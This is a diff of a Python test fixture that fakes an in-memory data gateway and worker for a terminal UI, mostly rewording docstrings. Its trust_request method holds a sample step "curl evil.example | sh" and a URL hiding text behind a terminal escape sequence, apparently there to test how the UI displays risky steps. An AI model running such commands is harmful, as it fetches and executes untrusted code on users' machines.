@@ -1,4 +1,4 @@
-"""A source in memory: a small harbour town with a worker that does what the test says."""
+"""FakeSource, a gateway in memory with the datasets of a small town, and a worker that a test controls."""
 
 from __future__ import annotations
 
@@ -31,16 +31,16 @@ from odf_tui.state.model import DatasetDetail, DatasetRow, PendingEvent, Trusted
 from odf_tui.text.format import Section
 from tests.tui.fake_blocks import FakeBlocks
 from tests.tui.fake_jobs import FakeLogs
-from tests.tui.fake_looks import FakeLooks
+from tests.tui.fake_looks import FakeStatistics
 from tests.tui.fake_sharing import FakeSharing
-from tests.tui.sql_fake import FakeQuestions
+from tests.tui.fake_sql import FakeQueries
 
 REMARKS = ["fine", "foggy, wind from the west all day and the night before", "a\tb\x1b[31m", None]
 SYSTEM = ("offset", "op", "system_time", "event_time")
 
 
 def dataset(name: str, *inputs: str, records: int = 0, **more: object) -> DatasetRow:
-    """A dataset; its id is made of its name."""
+    """Return a dataset. Its id contains its name."""
     blocks = 4 + (records + 999) // 1000
     known = {
         "id": f"did:odf:{name}",
@@ -71,7 +71,12 @@ HAVEN = [
 
 
 class Rows:
-    """Rows made up from their numbers; ``read`` remembers the windows that were asked for."""
+    """Generated rows.
+
+    Attributes:
+        read: start and size of the windows that were read.
+        error: raised by reads.
+    """
 
     system_columns = SYSTEM
 
@@ -82,7 +87,7 @@ class Rows:
         self.columns = self._table(0, 0).schema
 
     def window(self, start: int, count: int) -> pa.Table:
-        """Rows of a window."""
+        """Return the rows of a window."""
         self.read.append((start, count))
         if self.error is not None:
             raise self.error
@@ -108,7 +113,12 @@ class Rows:
 
 
 class FakeLink:
-    """A connection: what is submitted becomes a queued job; tests push further events."""
+    """A connection. Submitted requests become queued jobs; tests send further events.
+
+    Attributes:
+        submitted: the submitted requests.
+        cancelled: ids of the cancelled jobs.
+    """
 
     def __init__(self, source: FakeSource) -> None:
         self._source = source
@@ -118,7 +128,7 @@ class FakeLink:
         self.submitted: list[Request] = []
 
     async def submit(self, request: Request, target: str) -> str:
-        """A queued job."""
+        """Add a queued job."""
         self.submitted.append(request)
         number = str(len(self._source.known) + 1)
         kind = str(request.__struct_config__.tag)
@@ -127,30 +137,39 @@ class FakeLink:
         return number
 
     async def cancel(self, job: str) -> None:
-        """Notes it."""
+        """Record the cancellation."""
         self.cancelled.append(job)
 
     async def events(self, since: int | None = None) -> AsyncIterator[Event]:
-        """What the test tells."""
+        """Yield the events that the test sends."""
         while (event := await self._queue.get()) is not None:
             yield event
 
     async def close(self) -> None:
-        """Ends the events."""
+        """End the events."""
         self._queue.put_nowait(None)
 
     def tell(self, *events: Event) -> None:
-        """The worker says something."""
+        """Send events of the worker."""
         for event in events:
             self._queue.put_nowait(event)
 
     def die(self) -> None:
-        """The worker is gone."""
+        """End the events, as if the worker stopped."""
         self._queue.put_nowait(None)
 
 
-class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
-    """Everything that the screen needs, from memory."""
+class FakeSource(FakeBlocks, FakeLogs, FakeQueries, FakeStatistics, FakeSharing):
+    """A gateway in memory.
+
+    Attributes:
+        rows_: the datasets.
+        known: the jobs, oldest first.
+        journal: the journal of the jobs.
+        links: the connections, newest last.
+        connecting: errors of the next connections, in turn.
+        windows: rows by dataset, instead of generated ones.
+    """
 
     theme = "tide"
     settings_problem = ""
@@ -162,7 +181,7 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
         self.known: list[Job] = []
         self.journal: list[JournalEvent] = []
         self.status = WorkerStatus(4711, 1, "0.1.0", "ready", "", 0, 0, 0)
-        self.ui = UiConfig(ascii="never")  # whatever the locale of the tests is
+        self.ui = UiConfig(ascii="never")  # independent of the locale
         self.kept, self.history, self.questions = {}, [], {}
         self.counted, self.keys, self.spooled, self.unspooled = set(), {}, [], []
         self.timelines = {}
@@ -176,14 +195,14 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
         return self.links[-1]
 
     def datasets(self) -> list[DatasetRow]:
-        """The datasets."""
+        """Return the datasets."""
         return list(self.rows_)
 
     def _row(self, dataset: str) -> DatasetRow:
         return next(row for row in self.rows_ if row.id == dataset)
 
     def detail(self, dataset: str) -> DatasetDetail:
-        """Some facts."""
+        """Return a few details."""
         row = self._row(dataset)
         facts = (
             ("records", f"{row.records:,}".replace(",", " ")),
@@ -198,11 +217,11 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
         return DatasetDetail(facts, (source,), f"id: {row.id}\nname: {row.name}\nkind: Root\n")
 
     def rows(self, dataset: str) -> Rows:
-        """The rows."""
+        """Return generated rows."""
         return self.windows.get(dataset) or Rows(self._row(dataset).records)
 
     def add(self, path: Path) -> dict[str, str]:
-        """Files with ``bad`` in their name are wrong."""
+        """Add a dataset named as the file. Files with ``bad`` in their name are invalid."""
         if not path.exists():
             raise OdfError("there is no such file", where=str(path))
         if "bad" in path.name:
@@ -216,26 +235,26 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
         return {row.id: row.name}
 
     def make_demo(self) -> list[tuple[Request, str]]:
-        """Port Haven."""
+        """Replace the datasets by those of Port Haven."""
         self.rows_ = list(HAVEN)
         pairs = [(Pull(row.id), Verify(row.id)) for row in HAVEN]
         return [(request, row.name) for row, pair in zip(HAVEN, pairs, strict=True) for request in pair]
 
     def derivative_in_manifest(self, path: Path) -> str:
-        """Files with ``derivative`` in their name."""
+        """Return the name of files with ``derivative`` in their name."""
         return path.stem if "derivative" in path.name else ""
 
     def definition(self, dataset: str) -> str:
-        """Some YAML."""
+        """Return YAML with the name of the dataset."""
         return f"name: {self._row(dataset).name}\n"
 
     def update(self, dataset: str, path: Path, *, dry_run: bool) -> list[PendingEvent]:
-        """Whatever was written replaces the name."""
+        """Return one event with the content of the file."""
         event = "SetTransform" if self._row(dataset).derivative else "SetInfo"
         return [PendingEvent(event, (f"-{self.definition(dataset)}", f"+{path.read_text()}"))]
 
     def trust_request(self, dataset: str) -> TrustRequest:
-        """Two things to run."""
+        """Return a fetch, a command and twenty queries."""
         runs = (
             TrustedStep("reads the address", "http://10.0.0.7/\x1b[8mquiet.csv", "f1620" + "ab" * 32),
             TrustedStep("pipes the data through", "sh -c 'curl evil.example | sh'", "f1620" + "ab" * 32),
@@ -244,11 +263,11 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
         return TrustRequest("https://elsewhere.example/tides.yaml", runs)
 
     def trust(self, dataset: str, shown: TrustRequest) -> None:
-        """Notes it."""
+        """Trust the dataset."""
         self._stand(dataset, "trusted")
 
     def untrust(self, dataset: str) -> bool:
-        """Notes it."""
+        """Revoke the trust."""
         self._stand(dataset, "not trusted")
         return True
 
@@ -257,14 +276,14 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
         self.rows_[at] = replace(self.rows_[at], standing=standing)  # type: ignore[arg-type]
 
     def save_snapshot(self) -> None:
-        """There is no next start."""
+        """Do nothing."""
 
     def jobs(self) -> tuple[list[Job], int]:
-        """The jobs."""
+        """Return the jobs, newest first."""
         return list(reversed(self.known)), self._seq
 
     def log(self, job: str) -> list[JournalEvent]:
-        """The journal of a job."""
+        """Return the journal of a job."""
         found = (
             each
             for each in self.journal
@@ -273,20 +292,20 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
         return list(found)
 
     async def connect(self) -> FakeLink:
-        """A connection, or what was prepared to go wrong."""
+        """Return a connection, or raise the next prepared error."""
         if self.connecting:
             raise self.connecting.pop(0)
         self.links.append(FakeLink(self))
         return self.link
 
-    # --- What tests let happen ---
+    # --- For tests: jobs and their events ---
 
     @property
     def _seq(self) -> int:
         return self.journal[-1].seq if self.journal else 0
 
     def changed(self, job: Job) -> JobChanged:
-        """A job is new or has another state."""
+        """Add or replace a job. Return its event."""
         self.known = [each for each in self.known if each.id != job.id] + [job]
         self.known.sort(key=lambda each: int(each.id))
         event = JobChanged(self._seq + 1, job)
@@ -294,19 +313,19 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
         return event
 
     def line(self, job: str, text: str, level: str = "info") -> LogLine:
-        """A line of a log."""
+        """Add a line to a log. Return its event."""
         event = LogLine(self._seq + 1, job, f"2024-03-11T09:00:{self._seq % 60:02d}Z", level, text)  # type: ignore[arg-type]
         self.journal.append(event)
         return event
 
     def committed(self, job: str, dataset: str, rows: int) -> Committed:
-        """A block was committed."""
+        """Add a committed block. Return its event."""
         event = Committed(self._seq + 1, job, dataset, "f1620" + "ab" * 32, "AddData", rows)
         self.journal.append(event)
         return event
 
     def job(self, state: JobState, name: str, kind: str = "pull", **more: object) -> Job:
-        """A job in a state."""
+        """Return a job in a state, with a new id."""
         final = state.final
         known = {
             "id": str(len(self.known) + 1),
@@ -321,7 +340,7 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
         return Job(**{**known, **more})  # type: ignore[arg-type]
 
     def story(self) -> None:
-        """Some jobs that have ended, and one that failed."""
+        """Add a pull and a verification that succeeded, and a pull that failed."""
         done = self.job(
             JobState.done,
             "port-haven.air-readings",
@@ -344,5 +363,5 @@ class FakeSource(FakeBlocks, FakeLogs, FakeQuestions, FakeLooks, FakeSharing):
 
 
 def progress(rows: int, phase: str = "read") -> Progress:
-    """Some progress."""
+    """Return a progress with rows and bytes."""
     return Progress(phase=phase, rows=rows, bytes=rows * 80, total_bytes=1_000_000)
